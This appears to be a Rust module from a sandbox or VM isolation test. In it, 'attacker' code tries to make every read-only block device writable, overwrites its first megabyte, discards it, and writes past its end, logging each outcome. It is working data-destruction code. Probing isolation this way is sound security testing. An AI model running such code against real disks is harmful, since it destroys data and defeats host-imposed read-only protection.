//! Writing to every disk, whatever it says of itself.

use crate::sys;
use std::fs::File;
use std::os::unix::fs::FileExt;

/// Overwrites and discards the disks that the host gave to be read only.
pub(crate) fn overwrite() {
    for entry in std::fs::read_dir("/sys/block").into_iter().flatten().flatten() {
        let name = entry.file_name().to_string_lossy().into_owned();
        if std::fs::read_to_string(entry.path().join("ro")).is_ok_and(|ro| ro.trim() == "0") {
            continue;
        }
        let path = format!("/dev/{name}");
        println!("attacker: {name} made writable: {:?}", sys::make_writable(&path));
        let Ok(disk) = File::options().read(true).write(true).open(&path) else {
            println!("attacker: {name} cannot be opened for writing");
            continue;
        };
        let written = disk.write_all_at(&vec![0x5a; 1 << 20], 0).and_then(|()| disk.sync_all());
        println!("attacker: {name} written: {written:?}");
        println!("attacker: {name} discarded: {:?}", sys::discard(&disk));
        // Past its end, too.
        println!("attacker: {name} written past its end: {:?}", disk.write_at(&[0x5a; 4096], 1 << 50));
    }
}
